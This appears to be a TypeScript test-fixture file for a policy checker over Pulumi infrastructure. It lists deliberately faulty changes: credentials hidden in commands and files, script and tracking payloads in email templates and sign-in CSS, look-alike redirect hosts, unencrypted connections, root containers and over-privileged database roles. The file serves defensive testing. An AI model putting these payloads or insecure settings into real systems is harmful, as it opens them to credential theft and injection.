import { secret } from "../support/policies";
import { add, all, type Change, options, put, putVariable } from "./changes";
import { chance } from "./credentials";
import type { StackName } from "./stacks";

/** A fault whose form is not the usual one: what it does is the same. */
export type Disguised = [
  rule: string,
  what: string,
  change: Change,
  /** The resource and the places of which something is said. */
  where: string | string[],
  allowedIn?: readonly StackName[],
];

const logto = (path: string) => `In the Container "logto", ${path} must `;
const postgres = (path: string) => `In the Container "postgres", ${path} must `;
const application = (path: string) => `In the Application "bookstore", ${path} must `;
const experience = (path: string) => `In the SignInExperience "sign-in-experience", ${path} must `;
const content = `In the SendGridConnector "bookstore-email", config.templates[0].content must `;
const ofDevelopers = ["local", "dev"] as const;

const marked = "secrets-are-marked";
const password = "in-clear-4711";

/** What gives a credential in a container's words, by the property that holds it. */
const inContainers: [what: string, path: string, value: unknown, at?: string][] = [
  ["an argument", "command", ["serve", "--password", password], "command[2]"],
  [
    "an argument with its value",
    "command",
    ["serve", `--admin-password=${password}`],
    "command[1]",
  ],
  ["a setting", "command", ["postgres", "-c", `ssl_key_password=${password}`], "command[2]"],
  ["a line of shell", "command", ["sh", "-c", `PGPASSWORD=${password} psql`], "command[2]"],
  ["an export", "command", ["sh", "-c", `export API_KEY='${password}'; npm start`], "command[2]"],
  ["a program's short option", "command", ["sshpass", "-p", password, "ssh"], "command[2]"],
  ["a cache's option", "command", ["redis-cli", "-a", password, "ping"], "command[2]"],
  [
    "a user of curl",
    "command",
    ["curl", "-u", `logto:${password}`, "https://b.example"],
    "command[2]",
  ],
  ["a header", "command", ["curl", "-H", `Authorization: Basic ${password}`], "command[2]"],
  ["a header of another name", "command", ["curl", "-H", `X-Api-Key: ${password}`], "command[2]"],
  [
    "a replica's address",
    "command",
    ["-c", `primary_conninfo=host=a password=${password}`],
    "command[1]",
  ],
  ["an entrypoint", "entrypoints", ["serve", "--client-secret", password], "entrypoints[2]"],
  ["JSON in an argument", "command", [`{"db":{"password":"${password}"}}`], "command[0]"],
  [
    "a health check",
    "healthcheck.tests",
    ["CMD", "check", "--token", password],
    "healthcheck.tests[3]",
  ],
  [
    "a health check of shell",
    "healthcheck.tests",
    ["CMD-SHELL", `mysql -p${password} -e 1`],
    "healthcheck.tests[1]",
  ],
  ["a label", "labels.1", { label: "backup.password", value: password }, "labels[1].value"],
  [
    "a label of an address",
    "labels.1",
    { label: "db", value: `Server=a;Password=${password}` },
    "labels[1].value",
  ],
  ["a variable of options", "envs.0", `JAVA_OPTS=-Dkeystore.password=${password}`, "envs[0]"],
  ["a variable in one word", "envs.0", `PGPASSWORD=${password}`, "envs[0]"],
  ["a variable of a cache", "envs.0", `REDIS_URL=redis://cache`, "envs[0]"],
  ["a variable of JSON", "envs.0", `CONFIG={"smtp":{"pass":"${password}"}}`, "envs[0]"],
  ["the log's driver", "logOpts.splunk-token", password, "logOpts.splunk-token"],
  [
    "a file by whose name programs find passwords",
    "uploads.0",
    { file: "/root/.pgpass", content: `db:5432:logto:logto:${password}\n` },
    "uploads[0].content",
  ],
  ["the keys of cookies", "envs.0", `OIDC_COOKIE_KEYS=${password}`, "envs[0]"],
  [
    "a public file",
    "uploads.0",
    { file: "/etc/app.ini", content: `[db]\npassword = ${password}\n` },
    "uploads[0].content",
  ],
];

/** What gives a password by an option, a place or a form that only the program at hand knows. */
const commandsOfPrograms: string[][] = [
  ["mysqladmin", `-p${password}`, "ping"],
  ["sqlcmd", "-U", "sa", "-P", password],
  ["mongosh", "-u", "a", "-p", password],
  ["cqlsh", "-u", "a", "-p", password],
  ["unzip", "-P", password, "a.zip"],
  ["7z", "x", `-p${password}`, "a.7z"],
  ["smbclient", "-U", `a%${password}`, "//b/c"],
  ["redis-server", "--requirepass", password],
  ["mosquitto_pub", "-u", "a", "-P", password],
  ["podman", "login", "-u", "a", "-p", password],
  ["skopeo", "copy", "--src-creds", `a:${password}`],
  ["aws", "configure", "set", "aws_secret_access_key", password],
  ["npm", "config", "set", "//r.b.example/:_authToken", password],
  ["ldapmodify", "-D", "cn=a", "-w", password],
  ["htpasswd", "-bc", "/f", "a", password],
  ["lftp", "-u", `a,${password}`, "ftp://b.example"],
  ["curl", "-sSu", `a:${password}`, "https://b.example"],
  ["psql", "-c", `ALTER ROLE logto PASSWORD '${password}'`],
  ["mysql", "-e", `CREATE USER a IDENTIFIED BY '${password}'`],
  ["sh", "-c", `echo ${password} | docker login --password-stdin`],
  ["sh", "-c", `echo 'logto:${password}' | chpasswd`],
];

const filesOfPrograms: [file: string, content: string][] = [
  ["redis.conf", `port 6379\nrequirepass ${password}\n`],
  ["a.xml", `<c><password>${password}</password></c>`],
  ["a.yaml", `env:\n  - name: DB_PASSWORD\n    value: ${password}\n`],
  ["a.php", `<?php define('DB_PASSWORD', '${password}');`],
  ["nginx.conf", `proxy_set_header Authorization "Basic ${password}";`],
  ["Dockerfile", `ENV API_TOKEN ${password}\n`],
  ["userlist.txt", `"logto" "${password}"\n`],
  ["a.toml", `password="""${password}"""\n`],
  ["b.netrc", `machine b.example login a password ${password}\n`],
];

const namesOfOthers: [what: string, data: object, at: string][] = [
  ["a PIN", { adminPin: "471147" }, "adminPin"],
  ["codes to recover", { recoveryCodes: ["abcd-1234"] }, "recoveryCodes[0]"],
  ["a phrase of a wallet", { seedPhrase: "correct horse battery" }, "seedPhrase"],
  ["a Spanish name", { contraseña: password }, "contraseña"],
  ["a French name", { mot_de_passe: password }, "mot_de_passe"],
  ["a Dutch name", { wachtwoord: password }, "wachtwoord"],
  ["an entry in capitals", { env: [{ Name: "DB_PASSWORD", Value: password }] }, "env[0].Value"],
];

const ofSecrets: Disguised[] = [
  ...commandsOfPrograms.map((words): Disguised => [
    marked,
    `a credential for ${words.join(" ")}`,
    put("Container/logto", "command", words),
    logto(`command[${words.findIndex((word) => word.includes(password))}]`),
  ]),
  ...filesOfPrograms.map(([file, content]): Disguised => [
    marked,
    `a credential in ${file}`,
    put("Container/logto", "uploads.0", { file: `/etc/${file}`, content }),
    logto("uploads[0].content"),
  ]),
  ...namesOfOthers.map(([what, data, at]): Disguised => [
    marked,
    `a credential under ${what}`,
    put("Application", "customData", data),
    application(`customData.${at}`),
  ]),
  ...["ADMIN_PIN=", "NEW_RELIC_LICENSE_KEY=", "PASSWORD_SALT=", "OPTIONS=--admin-password "].map(
    (variable): Disguised => [
      marked,
      `a credential after ${variable}`,
      put("Container/logto", "envs.0", `${variable}${password}`),
      logto("envs[0]"),
    ],
  ),
  [
    marked,
    "a password in a sentence",
    put("Application", "description", "Test account: demo, password: Summer2026!"),
    application("description"),
  ],
  ...(
    [
      [
        "a password's hash of htpasswd",
        "proxy.users",
        "admin:$apr1$H6uskkkW$IgXLP6ewTrSuBkTrqE8wj/",
      ],
      ["a password's hash of bcrypt", "proxy.bob", `$2a$14$${chance("bcrypt", 53)}`],
      ["what Postgres keeps of a password", "verifier", "SCRAM-SHA-256$4096:c2FsdA==$a:b"],
    ] as const
  ).map(([what, label, value]): Disguised => [
    "credentials-are-not-plaintext",
    what,
    put("Container/logto", "labels.1", { label, value }),
    logto("labels[1].value"),
  ]),
  ...inContainers.map(([what, path, value, at = path]): Disguised => [
    marked,
    `a credential in ${what}`,
    put("Container/logto", path, value),
    logto(at),
  ]),
  [
    marked,
    "a credential in a volume's options",
    put("Volume/backups", "driverOpts", { type: "cifs", o: `username=a,password=${password}` }),
    `In the Volume "backups", driverOpts.o must `,
  ],
  [
    marked,
    "what a provider gets as JSON",
    add({
      type: "pulumi:providers:docker",
      name: "registry",
      inputs: { registryAuth: JSON.stringify([{ address: "a.example", password }]) },
    }),
    `In the docker "registry", registryAuth must `,
  ],
  [
    marked,
    "a registry's user and password in base 64",
    put("Application", "customData", {
      docker: JSON.stringify({ auths: { a: { auth: "YTpi" } } }),
    }),
    application("customData.docker"),
  ],
  [
    marked,
    "a header of a webhook",
    add({
      type: "pulumi-nodejs:dynamic/logto:Webhook",
      name: "orders",
      inputs: {
        config: { url: "https://b.example/hook", headers: { Authorization: `Bearer ${password}` } },
      },
      additionalSecretOutputs: ["signingKey", "original"],
    }),
    `In the Webhook "orders", config.headers.Authorization must `,
  ],
  [
    marked,
    "an entry of custom data by its name",
    put("Application", "customData", { entries: [{ name: "shop-api-key", value: password }] }),
    application("customData.entries[0].value"),
  ],
  [
    marked,
    "a token in an address",
    put("SignInExperience", "supportWebsiteUrl", `https://b.example/?access_token=${password}`),
    experience("supportWebsiteUrl"),
  ],
  [
    marked,
    "a passphrase",
    put("Application", "customData", { backup: { passphrase: "correct horse" } }),
    application("customData.backup.passphrase"),
  ],
  [
    "random-passwords-are-long",
    "a short password",
    put("RandomPassword/logto-database-password", "length", 8),
    `In the RandomPassword "logto-database-password", length must `,
  ],
  [
    "random-passwords-are-long",
    "a password of digits",
    all(
      put("RandomPassword/logto-database-password", "length", 20),
      put("RandomPassword/logto-database-password", "lower", false),
      put("RandomPassword/logto-database-password", "upper", false),
    ),
    `In the RandomPassword "logto-database-password", length must `,
  ],
];

const html = (body: string) =>
  `<!doctype html><html><head></head><body>{{code}}${body}</body></html>`;

/** What a message does, by the demand that it fails. */
const inMessages: [what: string, body: string][] = [
  ["a picture over http in noscript", '<noscript><img src="http://b.example/a.png"></noscript>'],
  ["a script in noscript", "<noscript><script>1</script></noscript>"],
  ["an address with an entity", '<img src="ht&#9;tp://b.example/a.png">'],
  ["an address in capitals", '<IMG SRC="HTTP://b.example/a.png">'],
  ["an address without a scheme", '<img src="//b.example/a.png">'],
  ["an address with backslashes", '<img src="\\\\b.example\\a.png">'],
  ["a link without a scheme", '<a href="//b.example">Shop</a>'],
  ["an escape in a style", '<p style="background:u\\72l(h\\74tp://b.example/a.png)">a</p>'],
  [
    "a set of pictures in a style",
    '<style>p{background:image-set("http://b.example/a" 1x)}</style>',
  ],
  [
    "a set of pictures of a browser",
    "<style>p{background:-webkit-image-set(url(http://b.example/a) 1x)}</style>",
  ],
  ["an import after a comment", '<style>@import/**/"http://b.example/a.css";</style>'],
  ["an import with an escape", '<style>@\\69mport "http://b.example/a.css";</style>'],
  ["an import without a scheme", "<style>@import url(//b.example/a.css);</style>"],
  ["a conditional comment", '<!--[if mso]><img src="http://b.example/a.png"><![endif]-->'],
  ["a script in a conditional comment", "<!--[if gte mso 9]><script>1</script><![endif]-->"],
  ["a picture of Outlook's", '<!--[if mso]><v:fill src="http://b.example/a.png"/><![endif]-->'],
  ["a document in a link", '<a href="data:text/html,<p>a">Shop</a>'],
  ["a document of SVG in a link", '<a href="data:image/svg+xml,<svg onload=1>">Shop</a>'],
  ["a button with an address", '<button formaction="https://b.example">Go</button>'],
  ["a frame's document", '<div><iframe srcdoc="a"></iframe></div>'],
  ["a link with a ping", '<a href="https://b.example" ping="https://c.example">Shop</a>'],
  ["a link that runs, with an entity", '<a href="&#106;avascript:alert(1)">Shop</a>'],
  ["the code in a link", '<a href="https://b.example/?code={{code}}">Go</a>'],
  ["the code in a path", '<a href="https://b.example/{{ code }}">Go</a>'],
  ["the code in a picture", '<img src="https://b.example/a.png?c={{code}}">'],
  ["the code in a style", "<p style='background:url(https://b.example/{{code}})'>a</p>"],
  ["the code in a letter to somebody", '<a href="mailto:a@b.example?body={{code}}">Go</a>'],
  [
    "a link to another host than it shows",
    '<a href="https://bookstore.example@b.example">Shop</a>',
  ],
  ["a link to a host that looks like another", '<a href="https://bооkstore.example">Shop</a>'],
  ["a handler in SVG", '<svg onload="alert(1)"></svg>'],
  [
    "a link that is set later",
    '<svg><a><set attributeName="href" to="https://b.example"/></a></svg>',
  ],
  ["an expression", '<p style="width: expression(alert(1))">a</p>'],
  ["a picture by ftp", '<img src="ftp://b.example/a.png">'],
  ["a style sheet over http", '<link rel="stylesheet" href="http://b.example/a.css">'],
  ["a background of a table", '<table background="http://b.example/a.png"></table>'],
];

const uri = (path: string, value: string): [Change, string] => [
  put("Application", `oidcClientMetadata.${path}.0`, value),
  application(`oidcClientMetadata.${path}[0]`),
];
const plain = "addresses-lead-where-they-say";
const linked = "accounts-are-linked-on-request";
const pages = "sign-in-pages-run-no-code";

const ofIdentity: Disguised[] = [
  ...inMessages.map(([what, body]): Disguised => [
    "email-templates-are-inert",
    `${what} in a message`,
    put("SendGridConnector", "config.templates.0.content", html(body)),
    content,
  ]),
  [
    plain,
    "a user before the host",
    ...uri("redirectUris", "https://bookstore.example@b.example/cb"),
  ],
  [
    plain,
    "a user after sign-out",
    ...uri("postLogoutRedirectUris", "https://bookstore.example@b.example/"),
  ],
  [plain, "Cyrillic letters in a host", ...uri("redirectUris", "https://bооkstore.example/cb")],
  [plain, "a host of Cyrillic letters only", ...uri("redirectUris", "https://сосо.com/cb")],
  [plain, "the same in ASCII", ...uri("redirectUris", "https://xn--bkstore-7fga.example/cb")],
  [
    plain,
    "a backslash in the host",
    ...uri("redirectUris", "https://bookstore.example\\@b.example/"),
  ],
  [
    pages,
    "custom CSS that ends its style sheet",
    put("SignInExperience", "customCss", "a{}</style><script>alert(1)</script>"),
    experience("customCss"),
  ],
  [
    pages,
    "custom CSS that tells what is typed",
    put("SignInExperience", "customCss", 'input[value^="a"]{background:url(https://b.example/a)}'),
    experience("customCss"),
  ],
  [
    "applications-can-sign-in",
    "a sign-out URI that is empty",
    put("Application", "oidcClientMetadata.postLogoutRedirectUris.0", ""),
    application("oidcClientMetadata.postLogoutRedirectUris[0]"),
  ],
  [
    "applications-can-sign-in",
    "an origin with a path",
    put("Application", "customClientMetadata.corsAllowedOrigins", ["https://b.example/app"]),
    application("customClientMetadata.corsAllowedOrigins[0]"),
  ],
  [
    "email-templates-are-readable",
    "a code that a rule for all screens hides",
    put(
      "SendGridConnector",
      "config.templates.0.content",
      "<style>@media all{.c{display:none}}</style><p class=c>{{code}}</p>",
    ),
    content,
  ],
  ...(
    [
      [
        "a style sheet of another host by link",
        "<link rel=stylesheet href=https://b.example/a.css>",
      ],
      ["one that a style element imports", "<style>@import 'https://b.example/a.css'</style>"],
      ["a field for a password", "<input type=password name=p>"],
    ] as const
  ).map(([what, body]): Disguised => [
    pages,
    `${what} in custom content`,
    put("SignInExperience", "customContent", { "/sign-in": body }),
    experience("customContent./sign-in"),
  ]),
  [
    linked,
    "accounts that are linked by themselves",
    put("SignInExperience", "socialSignIn.automaticAccountLinking", true),
    experience("socialSignIn.automaticAccountLinking"),
  ],
  ...(
    [
      ["an import", '@import url("https://b.example/a.css");'],
      ["an import over http", "@import 'http://fonts.googleapis.com/css';"],
      ["an import with an escape", '@\\69mport "https://b.example/a.css";'],
      ["a font over http", "@font-face{font-family:a;src:url(http://b.example/a.woff2)}"],
      ["a picture without a scheme", "body{background:url(//b.example/a.png)}"],
      ["an expression", "p{width:expression(alert(1))}"],
      ["a binding", "p{-moz-binding:url(https://b.example/a.xml#a)}"],
      ["a document", "p{background:url(data:text/html,a)}"],
    ] as const
  ).map(([what, css]): Disguised => [
    pages,
    `${what} in custom CSS`,
    put("SignInExperience", "customCss", css),
    what === "an import over http"
      ? [experience("customCss"), experience("customCss")]
      : experience("customCss"),
  ]),
  ...(
    [
      ["a script", "<script src=https://b.example/a.js></script>"],
      ["a handler", "<img src=x onerror=alert(1)>"],
      ["a form", "<form action=https://b.example><input name=password></form>"],
      ["a frame", "<iframe src=https://b.example></iframe>"],
      ["a link that runs", "<a href=' javascript:alert(1)'>a</a>"],
      ["a picture over http", "<img src=http://b.example/a.png>"],
    ] as const
  ).map(([what, body]): Disguised => [
    pages,
    `${what} in custom content`,
    put("SignInExperience", "customContent", { "/sign-in": body }),
    experience("customContent./sign-in"),
  ]),
];

const smtp = (config: object): Change =>
  add({
    type: "pulumi-nodejs:dynamic/logto:Connector",
    name: "smtp",
    inputs: {
      factoryId: "simple-mail-transfer-protocol",
      config: { host: "mail.b.example", port: 587, ...config },
      secretFields: [],
    },
    additionalSecretOutputs: ["original", "displaced"],
  });
const social = (config: object): Change =>
  add({
    type: "pulumi-nodejs:dynamic/logto:Connector",
    name: "oidc",
    inputs: { factoryId: "oidc", config, secretFields: [] },
    additionalSecretOutputs: ["original", "displaced"],
  });
const ofSmtp = (path: string) => `In the Connector "smtp", ${path} must `;
const ofOidc = (path: string) => `In the Connector "oidc", ${path} must `;
const engine = (inputs: object): Change =>
  add({ type: "pulumi:providers:docker", name: "engine", inputs });
const role = (inputs: object): Change =>
  add({
    type: "postgresql:index/role:Role",
    name: "reports",
    inputs: { name: "reports", login: true, ...inputs },
    additionalSecretOutputs: ["password"],
  });
const ofRole = (path: string) => `In the Role "reports", ${path} must `;

const encrypted = "connections-are-encrypted";
const https = "endpoints-are-https";
const proxy = "proxy-headers-come-from-a-proxy";
const foreign = "containers-use-the-stacks-own";
const privileges = "containers-drop-privileges";
const switches = "development-switches-are-off";
const roles = "database-roles-are-limited";
const ignored = "changes-are-not-ignored";

const ofPlatform: Disguised[] = [
  [
    https,
    "Logto over http",
    putVariable("Container/logto", "ENDPOINT=http://auth.b.example"),
    logto("ENDPOINT"),
    ofDevelopers,
  ],
  [
    https,
    "the console over http",
    putVariable("Container/logto", "ADMIN_ENDPOINT=http://admin.b.example"),
    logto("ADMIN_ENDPOINT"),
    ofDevelopers,
  ],
  [
    https,
    "Logto on one's own machine",
    putVariable("Container/logto", "ENDPOINT=https://localhost"),
    logto("ENDPOINT"),
    ofDevelopers,
  ],
  [
    encrypted,
    "a client of Postgres without TLS",
    all(
      putVariable("Container/logto", "PGSSLMODE=disable"),
      putVariable("Container/logto", "PGHOST=db.b.example"),
    ),
    logto("PGSSLMODE"),
  ],
  [
    switches,
    "an old TLS",
    put("Container/logto", "envs.0", "NODE_OPTIONS=--tls-min-v1.0"),
    logto("envs[0]"),
  ],
  ...(["0.0.0.0", "::", "203.0.113.7"] as const).map((ip): Disguised => [
    proxy,
    `trust in a proxy's headers on ${ip}`,
    all(
      put("Container/logto", "ports.0.ip", ip),
      putVariable("Container/logto", "TRUST_PROXY_HEADER=1"),
    ),
    logto("ports[0]"),
  ]),
  [
    proxy,
    "trust in a proxy's headers on every address",
    all(
      put("Container/logto", "ports.0.ip"),
      putVariable("Container/logto", "TRUST_PROXY_HEADER=true"),
    ),
    logto("ports[0]"),
  ],
  [
    encrypted,
    "an open engine",
    engine({ host: "tcp://10.0.0.5:2375" }),
    `In the docker "engine", host must `,
  ],
  [
    encrypted,
    "an open engine over http",
    engine({ host: "http://b.example:2375" }),
    `In the docker "engine", host must `,
  ],
  ...(["disable", "prefer"] as const).map((sslmode): Disguised => [
    encrypted,
    `a database elsewhere with sslmode ${sslmode}`,
    add({
      type: "pulumi:providers:postgresql",
      name: "other",
      inputs: { host: "db.b.example", sslmode },
    }),
    `In the postgresql "other", sslmode must `,
  ]),
  [
    encrypted,
    "an address of a database elsewhere without TLS",
    put(
      "ManagementAccess",
      "databaseUrl",
      secret(`postgres://a:${chance("p", 20)}@db.b.example/l?sslmode=disable`),
    ),
    `In the ManagementAccess "management-access", databaseUrl must `,
  ],
  [encrypted, "mail in clear", smtp({ secure: false }), ofSmtp("config.secure")],
  [encrypted, "mail with TLS if there is any", smtp({}), ofSmtp("config.secure")],
  [
    encrypted,
    "mail without TLS",
    smtp({ requireTLS: true, ignoreTLS: true }),
    [ofSmtp("config.secure"), ofSmtp("config.ignoreTLS")],
  ],
  [
    encrypted,
    "mail to anybody",
    smtp({ secure: true, tls: { rejectUnauthorized: false } }),
    ofSmtp("config.tls.rejectUnauthorized"),
  ],
  [
    encrypted,
    "a provider over http",
    social({ tokenEndpoint: "http://id.b.example/token" }),
    ofOidc("config.tokenEndpoint"),
  ],
  [
    encrypted,
    "a provider over http in a list",
    social({ endpoints: { jwks: ["HTTP://id.b.example/jwks"] } }),
    ofOidc("config.endpoints.jwks[0]"),
  ],
  [
    encrypted,
    "a provider over http in JSON",
    social({ custom: '{"jwks":"http://id.b.example"}' }),
    ofOidc("config.custom"),
  ],
  [
    "extra-hosts-are-private",
    "a public name that leads elsewhere",
    put("Container/logto", "hosts", [{ host: "api.sendgrid.com", ip: "10.0.0.9" }]),
    logto("hosts[0]"),
  ],
  [
    foreign,
    "a foreign volume",
    put("Container/logto", "mounts.1", { type: "volume", source: "others", target: "/a" }),
    logto("mounts[1].source"),
  ],
  [
    foreign,
    "a foreign volume by another property",
    put("Container/logto", "volumes", [{ volumeName: "others", containerPath: "/a" }]),
    logto("volumes[0].volumeName"),
  ],
  [
    foreign,
    "all volumes of a foreign container",
    put("Container/logto", "volumes", [{ fromContainer: "others" }]),
    logto("volumes[0].fromContainer"),
  ],
  [
    foreign,
    "a foreign network",
    put("Container/logto", "networksAdvanced.1", { name: "others" }),
    logto("networksAdvanced[1].name"),
  ],
  [
    foreign,
    "the network of a foreign container",
    put("Container/logto", "networkMode", "container:others"),
    logto("networkMode"),
  ],
  [
    foreign,
    "the processes of a foreign container",
    put("Container/logto", "pidMode", "container:others"),
    logto("pidMode"),
  ],
  ...(["root", "0", "0:0", "1000:0"] as const).map((user): Disguised => [
    privileges,
    `a container of the user ${user}`,
    put("Container/logto", "user", user),
    logto("user"),
  ]),
  [
    privileges,
    "a container in Docker's group",
    put("Container/logto", "groupAdds", ["docker"]),
    logto("groupAdds[0]"),
  ],
  ...(
    [
      [
        "a switch before a command",
        "command",
        ["sh", "-c", "INTEGRATION_TEST=1 npm start"],
        "command[2]",
      ],
      [
        "a switch that is exported",
        "command",
        ["sh", "-c", "export DEV_FEATURES_ENABLED=true; npm start"],
        "command[2]",
      ],
      [
        "a switch by env",
        "entrypoints",
        ["env", "NODE_TLS_REJECT_UNAUTHORIZED=0", "npm", "start"],
        "entrypoints[1]",
      ],
      [
        "a switch in a file",
        "uploads.0",
        { file: "/etc/logto/.env", content: "INTEGRATION_TEST=true\n" },
        "uploads[0].content",
      ],
      [
        "sign-in at Postgres without a password, by a line",
        "command",
        ["sh", "-c", "echo host all all all trust >> pg_hba.conf"],
        "command",
      ],
    ] as const
  ).map(([what, path, value, at]): Disguised => [
    switches,
    what,
    put("Container/logto", path, value),
    logto(at),
  ]),
  [
    "private-ports-stay-private",
    "the admin endpoint on a port of the command's",
    all(
      put("Container/logto", "command", ["sh", "-c", "ADMIN_PORT=4002 npm start"]),
      put("Container/logto", "ports.2", { internal: 4002, external: 4002, ip: "10.0.0.7" }),
    ),
    logto("ports[2]"),
  ],
  [roles, "a superuser", role({ superuser: true }), ofRole("superuser")],
  [
    roles,
    "a role that passes row security",
    role({ bypassRowLevelSecurity: true }),
    ofRole("bypassRowLevelSecurity"),
  ],
  [roles, "a member of the superuser", role({ roles: ["postgres"] }), ofRole("roles[0]")],
  [
    roles,
    "a member that runs programs",
    role({ roles: ["pg_execute_server_program"] }),
    ofRole("roles[0]"),
  ],
  [
    roles,
    "our own role as a member that reads the server's files",
    put("DatabaseRole/logto", "memberOf", ["books", "pg_read_server_files"]),
    `In the DatabaseRole "logto", memberOf[1] must `,
  ],
  [
    roles,
    "a superuser that a command makes",
    put("Container/postgres", "command", ["psql", "-c", "ALTER ROLE logto SUPERUSER"]),
    postgres("command"),
  ],
  [
    ignored,
    "an image that may be another",
    options("Container/logto", { ignoreChanges: ["image"] }),
    logto("the option ignoreChanges"),
  ],
  [
    ignored,
    "one capability",
    options("Container/logto", { ignoreChanges: ["capabilities.adds[0]"] }),
    logto("the option ignoreChanges"),
  ],
  [
    ignored,
    "everything",
    options("Application", { ignoreChanges: ["*"] }),
    application("the option ignoreChanges"),
  ],
  [
    ignored,
    "redirect URIs",
    options("Application", { ignoreChanges: ["oidcClientMetadata.redirectUris"] }),
    application("the option ignoreChanges"),
  ],
];

export const disguised: readonly Disguised[] = [...ofSecrets, ...ofIdentity, ...ofPlatform];
